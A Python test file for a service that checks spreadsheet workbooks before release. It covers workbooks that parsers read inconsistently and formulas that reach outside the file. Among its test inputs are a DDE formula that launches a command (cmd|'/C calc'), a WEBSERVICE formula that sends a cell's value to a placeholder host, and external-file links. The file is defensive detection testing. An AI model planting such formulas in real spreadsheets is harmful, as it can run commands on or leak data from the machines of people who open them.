"""Workbooks that two programs read in two ways, and formulas that reach out of them."""

from collections.abc import Callable
from typing import Any

import pytest

from services.publishing.release_check import second_reading
from services.publishing.release_check.bounds import Bounds
from services.publishing.release_check.looking import Look
from services.publishing.release_check.sheet_reading import Sheet
from tests.release_check.checking import POLICY, checked, codes
from tests.release_check.made.archives import unzipped, zipped
from tests.release_check.made.workbooks import MadeWorkbook, Raw, Value

ROWS: list[list[Value]] = [["Rank", "Posts"], ["Sergeant", 12], ["Constable", 30]]


def workbook(rows: list[list[Value]], **told: Any) -> bytes:
    """A workbook of one sheet."""
    made = MadeWorkbook()
    made.sheet("Staff", rows, **told)
    return made.bytes()


def blocks(data: bytes) -> set[str]:
    return codes(checked(data, "staff.xlsx"), "block")


def test_a_sheet_that_is_listed_and_missing_is_unreadable() -> None:
    package = MadeWorkbook(sheets=[])
    package.sheet("Staff", ROWS)
    package.sheet("Areas", ROWS)
    parts = unzipped(package.bytes())
    del parts["xl/worksheets/sheet2.xml"]
    assert "unreadable" in blocks(zipped(parts))


def test_a_sheet_that_the_workbook_does_not_list_is_an_orphan() -> None:
    made = MadeWorkbook()
    made.sheet("Staff", ROWS)
    made.sheet("Areas", ROWS)
    parts = unzipped(made.bytes())
    assert b'<sheet name="Areas" sheetId="2" r:id="rId2"/>' in parts["xl/workbook.xml"]
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'<sheet name="Areas" sheetId="2" r:id="rId2"/>', b"")
    assert "orphan_part" in blocks(zipped(parts))


TWO_READINGS = {
    "a cell in the wrong row": lambda: workbook([["a"], [Raw('<c r="A9"><v>1</v></c>')]]),
    "columns out of order": lambda: workbook([[None, "b", Raw('<c r="A1"><v>1</v></c>')]]),
    "a text index beyond the table": lambda: workbook([[Raw('<c r="A1" t="s"><v>77</v></c>')]]),
    "a negative text index": lambda: workbook([["x", Raw('<c r="B1" t="s"><v>-1</v></c>')]]),
    "an inline text beside a number": lambda: workbook(
        rows=[[Raw('<c r="A1"><v>1</v><is><t>Jane Birch</t></is></c>')]]
    ),
    "a cell inside a choice": lambda: workbook(
        rows=[["x", Raw('<mc:AlternateContent><mc:Choice><c r="B1"><v>1</v></c></mc:Choice></mc:AlternateContent>')]]
    ),
}


@pytest.mark.parametrize("made", TWO_READINGS.values(), ids=TWO_READINGS)
def test_what_programs_read_in_two_ways_blocks(made: Callable[[], bytes]) -> None:
    assert {"parser_disagreement", "unreadable"} & blocks(made())


@pytest.mark.parametrize(
    ("name", "state", "values", "told"),
    [
        ("Staff", "visible", 6, []),
        ("Staff", "hidden", 6, ["sheet Staff as hidden", "sheet Staff as visible"]),
        ("Other", "visible", 6, ["sheet Other as visible", "sheet Staff as visible"]),
        ("Staff", "visible", 5, ["sheet Staff, 5 cells, or 6"]),
    ],
)
def test_two_readings_that_differ_in_anything_block(name: str, state: str, values: int, told: list[str]) -> None:
    look = Look(
        name="staff.xlsx",
        data=workbook(ROWS),
        policy=POLICY,
        bounds=Bounds(POLICY.limits),
        descend=lambda *_: None,
    )
    sheet = Sheet(name=name, part="p", kind="worksheet", state=state, values=values, corner=(3, 2))
    second_reading.inspect(look, [sheet])
    assert [each.where for each in look.findings] == told
    assert {each.code for each in look.findings} <= {"parser_disagreement"}


def test_two_sheets_of_one_name_block() -> None:
    made = MadeWorkbook()
    made.sheet("Staff", ROWS)
    made.sheet("STAFF", ROWS)
    assert "parser_disagreement" in blocks(made.bytes())


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("cmd|'/C calc'!A0", "dde_link"),
        ("RTD(&quot;prog&quot;,,1)", "dde_link"),
        ("[1]Staff!$A$1", "external_link"),
        ("'[pay 2025.xlsx]Staff'!A1", "external_link"),
        ("WEBSERVICE(&quot;https://example.test/&quot;&amp;A1)", "external_link"),
        ("HYPERLINK(&quot;file:///S:/pay.xlsx&quot;)", "external_link"),
        ("CUBEVALUE(&quot;Model&quot;,A1)", "connection"),
    ],
)
def test_a_formula_that_reaches_out_blocks(formula: str, code: str) -> None:
    assert code in blocks(workbook([["x", Raw(f'<c r="B1"><f>{formula}</f><v>1</v></c>')]]))


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:A9)",
        "Table1[Posts]",
        "SUM(Table1[[#This Row],[Posts]])",
        "HYPERLINK(&quot;https://example.test/a&quot;,&quot;more&quot;)",
        "IF(A1=&quot;a|b&quot;,1,2)",
        "IF(A1=&quot;[1]&quot;,1,2)",
        "Areas!A1&amp;&quot; x&quot;",
    ],
)
def test_a_formula_that_stays_in_the_workbook_blocks_nothing(formula: str) -> None:
    assert blocks(workbook([["x", Raw(f'<c r="B1"><f>{formula}</f><v>1</v></c>')]])) == set()


@pytest.mark.parametrize("error", ["#N/A", "#SPILL!"])
def test_all_kinds_of_cells_are_read_the_same_by_both_programs(error: str) -> None:
    cells: list[Value] = [
        "x",
        1,
        2.5,
        True,
        Raw('<c r="E1" t="inlineStr"><is><t>inline</t></is></c>'),
        Raw('<c r="F1" t="str"><f>A1&amp;""</f><v>x</v></c>'),
        Raw('<c r="G1" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
        Raw('<c r="H1" t="d"><v>2026-01-05</v></c>'),
        Raw('<c r="I1" t="str"><f>""</f><v></v></c>'),
        Raw('<c r="J1"><f>SUM(B1:C1)</f></c>'),
        Raw('<c t="n"><v>4</v></c>'),
        Raw('<c r="L1" t="s"/>'),
        Raw(f'<c r="M1" t="e"><v>{error}</v></c>'),
    ]
    assert checked(workbook([cells]), "staff.xlsx").verdict == "pass"


def test_cells_at_both_ends_of_a_sheet_are_read_without_all_that_lie_between() -> None:
    rows: list[list[Value]] = [["x"], [], []]
    data = workbook(rows, row_attributes={3: ""})
    parts = unzipped(data)
    name = "xl/worksheets/sheet1.xml"
    far = b'<row r="1048576"><c r="XFD1048576"><v>4</v></c></row></sheetData>'
    parts[name] = parts[name].replace(b"</sheetData>", far)
    assert blocks(zipped(parts)) == {"values_far_outside"}


@pytest.mark.parametrize("row", ['r="0"', 'r="1048577"', 'r="x"'])
def test_a_row_outside_the_sheet_is_unreadable(row: str) -> None:
    parts = unzipped(workbook(ROWS))
    name = "xl/worksheets/sheet1.xml"
    parts[name] = parts[name].replace(b'<row r="2" ', f"<row {row} ".encode())
    assert "unreadable" in blocks(zipped(parts))
